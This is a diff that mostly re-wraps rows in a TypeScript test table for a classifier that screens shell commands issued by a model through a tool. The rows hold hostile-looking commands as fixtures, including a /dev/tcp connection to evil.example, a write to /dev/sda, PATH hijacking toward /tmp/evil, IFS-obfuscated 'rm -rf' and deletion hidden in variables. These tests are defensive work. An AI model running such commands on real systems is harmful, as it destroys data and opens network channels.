@@ -20,14 +20,28 @@ interface Row {
 const CWD = "/home/dev/app";
 
 function readLine({ line, shell = "bash" }: Pick<Row, "line" | "shell">): Reading {
-  const call = { tool: "shell", args: { command: line }, cwd: CWD, project: CWD, source: "model", attended: true } as const;
+  const call = {
+    tool: "shell",
+    args: { command: line },
+    cwd: CWD,
+    project: CWD,
+    source: "model",
+    attended: true,
+  } as const;
   return read(call, plainWorld({ home: "/home/dev", cwd: CWD, project: CWD, shell }));
 }
 
 function shown(reading: Reading): Required<Pick<Row, "parts" | "findings" | "paths">> {
   return {
-    parts: reading.parts.map((part) => [`${part.program}:${part.class}`, ...part.words.map(({ text, kind }) => (kind === "literal" ? text : `<${text}>`))].join(" ")),
-    findings: [...new Set([...reading.findings, ...reading.parts.flatMap(({ findings }) => findings)].map(({ code }) => code))],
+    parts: reading.parts.map((part) =>
+      [
+        `${part.program}:${part.class}`,
+        ...part.words.map(({ text, kind }) => (kind === "literal" ? text : `<${text}>`)),
+      ].join(" "),
+    ),
+    findings: [
+      ...new Set([...reading.findings, ...reading.parts.flatMap(({ findings }) => findings)].map(({ code }) => code)),
+    ],
     paths: reading.parts.flatMap(({ paths }) => paths.map((use) => `${use.act} ${use.spelling}`)),
   };
 }
@@ -35,12 +49,20 @@ function shown(reading: Reading): Required<Pick<Row, "parts" | "findings" | "pat
 const KINDS: Readonly<Record<string, readonly Row[]>> = {
   "lists and pipes start each of their commands": [
     { line: "git status; rm x", why: "a semicolon ends a command", parts: ["git:read status", "rm:destructive x"] },
-    { line: "git status && rm x || ls", why: "both sides of a condition may run", parts: ["git:read status", "rm:destructive x", "ls:read"] },
+    {
+      line: "git status && rm x || ls",
+      why: "both sides of a condition may run",
+      parts: ["git:read status", "rm:destructive x", "ls:read"],
+    },
     { line: "ls | tee out", why: "a pipe starts both", parts: ["ls:read", "tee:write out"] },
     { line: "ls & rm x", why: "the background is no hiding place", parts: ["ls:read", "rm:destructive x"] },
     { line: "ls\nrm x", why: "a newline ends a command", parts: ["ls:read", "rm:destructive x"] },
     { line: "ls \\\n -l", why: "a continued line is one command", parts: ["ls:read -l"] },
-    { line: "echo a#b; rm y", why: "`#` inside of a word begins no comment", parts: ["echo:read a#b", "rm:destructive y"] },
+    {
+      line: "echo a#b; rm y",
+      why: "`#` inside of a word begins no comment",
+      parts: ["echo:read a#b", "rm:destructive y"],
+    },
     { line: "ls # ; rm y", why: "a comment starts nothing", parts: ["ls:read"] },
     { line: "! rm y", why: "a negation runs its command", parts: ["rm:destructive y"] },
     { line: "time rm y", why: "`time` is a word of the grammar", parts: ["rm:destructive y"] },
@@ -49,9 +71,24 @@ const KINDS: Readonly<Record<string, readonly Row[]>> = {
     { line: "if ls; then rm y; fi", why: "condition and body", parts: ["ls:read", "rm:destructive y"] },
     { line: "while ls; do rm y; done", why: "a loop", parts: ["ls:read", "rm:destructive y"] },
     { line: "case x in *) rm y;; esac", why: "a branch", parts: ["rm:destructive y"] },
-    { line: "(cd src && ls)", why: "a subshell; the directory is followed", parts: ["cd:read src", "ls:read"], paths: ["read /home/dev/app/src", "read /home/dev/app/src"] },
-    { line: "(cd src); ls", why: "a subshell's directory is its own", parts: ["cd:read src", "ls:read"], paths: ["read /home/dev/app/src", "read /home/dev/app"] },
-    { line: "for f in a b; do cat $f; done", why: "fixed words are read round by round", parts: ["cat:read a", "cat:read b"], paths: ["read /home/dev/app/a", "read /home/dev/app/b"] },
+    {
+      line: "(cd src && ls)",
+      why: "a subshell; the directory is followed",
+      parts: ["cd:read src", "ls:read"],
+      paths: ["read /home/dev/app/src", "read /home/dev/app/src"],
+    },
+    {
+      line: "(cd src); ls",
+      why: "a subshell's directory is its own",
+      parts: ["cd:read src", "ls:read"],
+      paths: ["read /home/dev/app/src", "read /home/dev/app"],
+    },
+    {
+      line: "for f in a b; do cat $f; done",
+      why: "fixed words are read round by round",
+      parts: ["cat:read a", "cat:read b"],
+      paths: ["read /home/dev/app/a", "read /home/dev/app/b"],
+    },
     { line: "coproc rm y", why: "a coprocess runs", parts: ["rm:destructive y"] },
   ],
   "substitutions run wherever they stand": [
@@ -59,7 +96,12 @@ const KINDS: Readonly<Record<string, readonly Row[]>> = {
     { line: 'echo "$(rm y)"', why: "in double quotes", parts: ["rm:destructive y", "echo:read <$(rm y)>"] },
     { line: "echo '$(rm y)'", why: "not in single quotes", parts: ["echo:read $(rm y)"] },
     { line: "echo `rm y`", why: "in backticks", parts: ["rm:destructive y", "echo:read <`rm y`>"] },
-    { line: "cat <(rm y)", why: "a process substitution is no file", parts: ["rm:destructive y", "cat:read <<(rm y)>"], paths: ["delete /home/dev/app/y"] },
+    {
+      line: "cat <(rm y)",
+      why: "a process substitution is no file",
+      parts: ["rm:destructive y", "cat:read <<(rm y)>"],
+      paths: ["delete /home/dev/app/y"],
+    },
     { line: "echo ${x:=$(rm y)}", why: "in a default", parts: ["rm:destructive y", "echo:read <${x:=$(rm y)}>"] },
     { line: "cat <<E\n$(rm y)\nE", why: "an open here-document expands", parts: ["rm:destructive y", "cat:read"] },
     { line: "cat <<'E'\n$(rm y)\nE", why: "a quoted one does not", parts: ["cat:read"] },
@@ -74,14 +116,27 @@ const KINDS: Readonly<Record<string, readonly Row[]>> = {
     { line: "ls '{a,b}.ts'", why: "not in quotes", parts: ["ls:read {a,b}.ts"] },
     { line: "cat ~/notes", why: "the home folder", parts: ["cat:read ~/notes"], paths: ["read /home/dev/notes"] },
     { line: "cat '~/notes'", why: "not in quotes", paths: ["read /home/dev/app/~/notes"] },
-    { line: "D=-delete; find . $D", why: "a value that the line gave", parts: ["null:read", "find:destructive . -delete"] },
-    { line: "D=-delete; (D=x); find . $D", why: "a subshell's assignment is its own", parts: ["null:read", "null:read", "find:destructive . -delete"] },
+    {
+      line: "D=-delete; find . $D",
+      why: "a value that the line gave",
+      parts: ["null:read", "find:destructive . -delete"],
+    },
+    {
+      line: "D=-delete; (D=x); find . $D",
+      why: "a subshell's assignment is its own",
+      parts: ["null:read", "null:read", "find:destructive . -delete"],
+    },
   ],
   "what is not certain is not guessed": [
     { line: "$X rm", why: "a program from a variable", findings: ["unreadable"] },
     { line: "${x:-rm} -rf y", why: "a program from a default", findings: ["unreadable"] },
     { line: "rm${IFS}-rf${IFS}y", why: "blanks from a variable", findings: ["unreadable"] },
-    { line: 'eval "rm y"', why: "a text is run; its commands are still held against denials", parts: ["eval:read rm y", "rm:destructive y"], findings: ["unreadable"] },
+    {
+      line: 'eval "rm y"',
+      why: "a text is run; its commands are still held against denials",
+      parts: ["eval:read rm y", "rm:destructive y"],
+      findings: ["unreadable"],
+    },
     { line: "ls() { rm y; }; ls", why: "a function takes the name", findings: ["unreadable"] },
     { line: "alias ls='rm y'\nls", why: "an alias takes the name", findings: ["unreadable"] },
     { line: ". ./env.sh", why: "a script in the shell itself", findings: ["unreadable"] },
@@ -107,20 +162,39 @@ const KINDS: Readonly<Record<string, readonly Row[]>> = {
     { line: "read x; echo $((x))", why: "a value from standard input", findings: ["unreadable"] },
     { line: "i=1; echo $((i+1))", why: "a number is a number", findings: [] },
     { line: "i=0; while ls; do i=$((i+1)); done", why: "a counter stays a number", findings: [] },
-    { line: "echo $((1+$(rm y)))", why: "a substitution in arithmetic", parts: ["rm:destructive y", "echo:read <$((1+$(rm y)))>"], findings: ["unreadable"] },
+    {
+      line: "echo $((1+$(rm y)))",
+      why: "a substitution in arithmetic",
+      parts: ["rm:destructive y", "echo:read <$((1+$(rm y)))>"],
+      findings: ["unreadable"],
+    },
   ],
   "redirections touch files": [
-    { line: "ls > out", why: "creates or replaces", parts: ["ls:write"], paths: ["write /home/dev/app/out", "read /home/dev/app"] },
+    {
+      line: "ls > out",
+      why: "creates or replaces",
+      parts: ["ls:write"],
+      paths: ["write /home/dev/app/out", "read /home/dev/app"],
+    },
     { line: "ls >> out", why: "adds to", paths: ["edit /home/dev/app/out", "read /home/dev/app"] },
     { line: "> f", why: "truncates without a command", parts: ["null:write"], paths: ["write /home/dev/app/f"] },
     { line: "pwd 2>&1 >/dev/null", why: "inert", parts: ["pwd:read"], paths: ["write /dev/null"] },
     { line: "pwd {fd}>f", why: "through a new descriptor", paths: ["write /home/dev/app/f"] },
     { line: "pwd &> f", why: "both streams", paths: ["write /home/dev/app/f"] },
     { line: "wc -l < f", why: "reads", parts: ["wc:read --lines"], paths: ["read /home/dev/app/f"] },
-    { line: "cat < /dev/tcp/evil.example/80", why: "the shell opens a connection", parts: ["cat:network"], findings: ["network-target"] },
+    {
+      line: "cat < /dev/tcp/evil.example/80",
+      why: "the shell opens a connection",
+      parts: ["cat:network"],
+      findings: ["network-target"],
+    },
     { line: "echo x > /dev/sda", why: "a disk", findings: ["device-write"] },
     { line: "{ ls; pwd; } > f", why: "of a group", paths: ["write /home/dev/app/f", "read /home/dev/app"] },
-    { line: "(cd /tmp; pwd) > f", why: "opened before the directory moves", paths: ["write /home/dev/app/f", "read /tmp"] },
+    {
+      line: "(cd /tmp; pwd) > f",
+      why: "opened before the directory moves",
+      paths: ["write /home/dev/app/f", "read /tmp"],
+    },
   ],
   "variables that reach programs": [
     { line: "PATH=/tmp/evil ls", why: "another ls would run", findings: ["env-injection"] },
@@ -131,22 +205,43 @@ const KINDS: Readonly<Record<string, readonly Row[]>> = {
     { line: "NODE_ENV=test npm test", why: "a setting that is read as data", findings: [] },
     { line: "IFS=/; ls", why: "later words would be split elsewhere", findings: ["env-injection"] },
     { line: "printf -v PATH /evil", why: "a built-in that assigns", findings: ["env-injection"] },
-    { line: "while IFS= read -r l; do echo \"$l\"; done < f", why: "reading lines", findings: [] },
+    { line: 'while IFS= read -r l; do echo "$l"; done < f', why: "reading lines", findings: [] },
   ],
   "wrappers are looked through": [
     { line: "timeout 5 rm x", why: "words are a command", parts: ["rm:destructive x", "timeout:read 5 rm x"] },
-    { line: "env -i FOO=1 rm x", why: "after options and variables", parts: ["rm:destructive x", "env:read --ignore-environment FOO=1 rm x"] },
-    { line: "nice -n 5 ls", why: "nothing is added to a harmless command", parts: ["ls:read", "nice:read --adjustment=5 ls"] },
+    {
+      line: "env -i FOO=1 rm x",
+      why: "after options and variables",
+      parts: ["rm:destructive x", "env:read --ignore-environment FOO=1 rm x"],
+    },
+    {
+      line: "nice -n 5 ls",
+      why: "nothing is added to a harmless command",
+      parts: ["ls:read", "nice:read --adjustment=5 ls"],
+    },
     { line: "bash -c 'rm x'", why: "a text is a line", parts: ["rm:destructive x", "bash:read -c=rm x"] },
     { line: 'bash -c "$X"', why: "not a text that is not fixed", findings: ["unreadable"] },
     { line: "sudo rm x", why: "with another user's rights", parts: ["rm:destructive x", "sudo:privilege rm x"] },
     { line: "command rm x", why: "a built-in wrapper", parts: ["rm:destructive x"] },
     { line: "exec rm x", why: "in place of the shell", parts: ["rm:destructive x"] },
     { line: "trap 'rm x' EXIT", why: "later", parts: ["trap:read rm x EXIT", "rm:destructive x"] },
-    { line: "find . -exec rm {} +", why: "for what was found", parts: ["rm:destructive <{}>", "find:read . -exec=rm {}"] },
+    {
+      line: "find . -exec rm {} +",
+      why: "for what was found",
+      parts: ["rm:destructive <{}>", "find:read . -exec=rm {}"],
+    },
     { line: "busybox rm x", why: "an applet", parts: ["rm:destructive x", "busybox:read rm x"] },
-    { line: "ls | xargs rm", why: "words come from the pipe", parts: ["ls:read", "rm:destructive <{}>", "xargs:read rm"] },
-    { line: "ssh host rm x", why: "elsewhere: the launcher decides, and a denial still finds it", parts: ["rm:read x", "ssh:execute host rm x"], findings: ["network-target"] },
+    {
+      line: "ls | xargs rm",
+      why: "words come from the pipe",
+      parts: ["ls:read", "rm:destructive <{}>", "xargs:read rm"],
+    },
+    {
+      line: "ssh host rm x",
+      why: "elsewhere: the launcher decides, and a denial still finds it",
+      parts: ["rm:read x", "ssh:execute host rm x"],
+      findings: ["network-target"],
+    },
   ],
   "programs that are not what they seem": [
     { line: "./rm x", why: "a file of the project", findings: ["program-in-project"] },
